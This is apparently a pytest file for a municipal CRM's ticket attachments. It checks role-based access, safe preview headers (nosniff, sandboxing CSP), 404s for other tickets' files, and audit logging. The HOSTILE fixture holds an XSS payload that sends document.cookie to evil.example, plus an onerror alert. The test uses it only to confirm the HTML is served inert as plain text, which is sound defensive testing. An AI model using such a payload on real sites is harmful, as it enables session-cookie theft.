"""The ticket page's attachments through HTTP: the front desk's scan is listed on the ticket;
download and preview for the roles that open tickets (frontdesk 403, anonymous to sign-in);
images shown with their own type, hostile HTML only as plain text, a PDF download-only; an
unknown id or another ticket's file 404; every access in the audit trail."""
from __future__ import annotations

import re

from sqlmodel import select

from crm.models import AccessRecord, Attachment
from tests.app.test_web_desk import post_desk
from tests.conftest import Stack

SOPHIE, CLAIRE, KARIM = "sophie.martin@demo.guichet.fr", "claire.dubois@demo.guichet.fr", "karim.haddad@demo.guichet.fr"
# The smallest valid PNG (1×1, transparent).
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")
HOSTILE = (b"<html><body><script>document.location='https://evil.example/?c='+document.cookie</script>"
           b"<img src=x onerror=alert(1)><p>Bonjour</p></body></html>")
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
LETTER = {"citizen": "new", "full_name": "Yasmine Tazi", "phone": "06 12 34 56 78", "channel": "letter",
          "category": "etat_civil", "note": "Courrier reçu avec une pièce jointe."}


async def _log_letters(stack: Stack) -> tuple[str, str]:
    """Sophie logs a letter with its scan (PNG), then adds the HTML and the PDF the citizen sent
    to the same request; a second request (other citizen) gets its own scan."""
    await stack.sign_in(SOPHIE)
    first = await post_desk(stack, LETTER, scan=("courrier scanné.png", PNG, "image/png"))
    assert first.status_code == 303, first.text
    reference = first.headers["location"].rsplit("/", 1)[1]
    await stack.drain()  # the ticket exists once the worker has read the contact
    for name, data, kind in (("page.html", HOSTILE, "text/html"), ("avis.pdf", PDF, "application/pdf")):
        added = await post_desk(stack, {"citizen": "new", "channel": "letter", "reference": reference,
                                        "note": "Suite du courrier."}, scan=(name, data, kind))
        assert added.status_code == 303, added.text
        await stack.drain()
    other = await post_desk(stack, {**LETTER, "full_name": "Paul Girard", "phone": "06 98 76 54 32"},
                            scan=("autre.png", PNG + b"\x00", "image/png"))
    assert other.status_code == 303, other.text
    await stack.drain()
    stack.client.cookies.clear()
    return reference, other.headers["location"].rsplit("/", 1)[1]


def _links(page: str, reference: str) -> dict[str, int]:
    """filename -> attachment id, from the Download links of the ticket page."""
    found = re.findall(rf'href="/tickets/{reference}/attachments/(\d+)" download>[^<]*'
                       r'<span class="visually-hidden"> ([^<]+)</span>', page)
    return {name.strip(): int(ident) for ident, name in found}


async def _reads(stack: Stack, agent_email: str) -> list[tuple[str, int]]:
    async with stack.session() as session:
        from routing.agents import get_agent_by_email
        agent = await get_agent_by_email(session, agent_email)
        rows = (await session.exec(select(AccessRecord).where(AccessRecord.agent_id == agent.id,
                                                             AccessRecord.subject_type == "attachment")
                                   .order_by(AccessRecord.id))).all()
        return [(r.action, r.subject_id) for r in rows]


async def test_attachments_download_and_preview_safely_for_the_right_roles(stack: Stack) -> None:
    reference, other_reference = await _log_letters(stack)
    await stack.sign_in(CLAIRE)
    page = (await stack.client.get(f"/tickets/{reference}")).text
    ids = _links(page, reference)
    assert set(ids) == {"courrier scanné.png", "page.html", "avis.pdf"}, ids
    png, html, pdf = ids["courrier scanné.png"], ids["page.html"], ids["avis.pdf"]
    base = f"/tickets/{reference}/attachments"
    assert f'<img class="attachment-preview" src="{base}/{png}/preview"' in page  # the scan, shown inline
    assert f'href="{base}/{pdf}/preview"' not in page and f'href="{base}/{html}/preview"' in page

    download = await stack.client.get(f"{base}/{png}")
    assert download.status_code == 200 and download.content == PNG
    assert download.headers["content-type"] == "application/octet-stream"
    assert download.headers["content-disposition"] == (
        "attachment; filename=\"courrier scann_.png\"; filename*=UTF-8''courrier%20scann%C3%A9.png")
    assert download.headers["x-content-type-options"] == "nosniff"

    image = await stack.client.get(f"{base}/{png}/preview")
    assert image.status_code == 200 and image.content == PNG and image.headers["content-type"] == "image/png"
    assert image.headers["content-disposition"].startswith("inline;")
    assert image.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in image.headers["content-security-policy"]

    hostile = await stack.client.get(f"{base}/{html}/preview")
    assert hostile.status_code == 200
    assert hostile.headers["content-type"] == "text/plain; charset=utf-8"  # shown as its source, never run
    assert hostile.headers["x-content-type-options"] == "nosniff"
    policy = hostile.headers["content-security-policy"]
    assert "sandbox" in policy and "script-src" not in policy and policy.startswith("default-src 'none'")
    assert hostile.text == HOSTILE.decode()

    no_preview = await stack.client.get(f"{base}/{pdf}/preview")
    assert no_preview.status_code == 415 and "text/html" in no_preview.headers["content-type"]
    assert "télécharg" in no_preview.text  # French by default: download it
    assert (await stack.client.get(f"{base}/{pdf}")).content == PDF

    # Unknown id, another ticket's file through this reference, an unknown reference: 404.
    async with stack.session() as session:
        top = max((await session.exec(select(Attachment.id))).all())
    other_page = (await stack.client.get(f"/tickets/{other_reference}")).text
    [foreign] = _links(other_page, other_reference).values()
    assert (await stack.client.get(f"{base}/{top + 100}")).status_code == 404
    assert (await stack.client.get(f"{base}/{foreign}")).status_code == 404
    assert (await stack.client.get(f"{base}/{foreign}/preview")).status_code == 404
    assert (await stack.client.get(f"/tickets/GRU-1999-000001/attachments/{png}")).status_code == 404
    assert (await stack.client.get(f"/tickets/{other_reference}/attachments/{foreign}")).status_code == 200

    # Each file opened is in the audit trail; the refused preview (PDF) and the 404s are not.
    reads = await _reads(stack, CLAIRE)
    assert reads[:4] == [("download", png), ("preview", png), ("preview", html), ("download", pdf)], reads
    assert ("preview", pdf) not in reads and all(subject != top + 100 for _, subject in reads)

    # An agent may open it; the front desk may not; anonymous visitors sign in first.
    stack.client.cookies.clear()
    await stack.sign_in(KARIM)
    assert (await stack.client.get(f"{base}/{png}")).status_code == 200
    stack.client.cookies.clear()
    await stack.sign_in(SOPHIE)
    refused = await stack.client.get(f"{base}/{png}")
    assert refused.status_code == 403 and refused.content != PNG
    assert (await stack.client.get(f"{base}/{png}/preview")).status_code == 403
    assert await _reads(stack, SOPHIE) == []
    stack.client.cookies.clear()
    anonymous = await stack.client.get(f"{base}/{png}")
    assert anonymous.status_code == 303 and anonymous.headers["location"].startswith("/login")
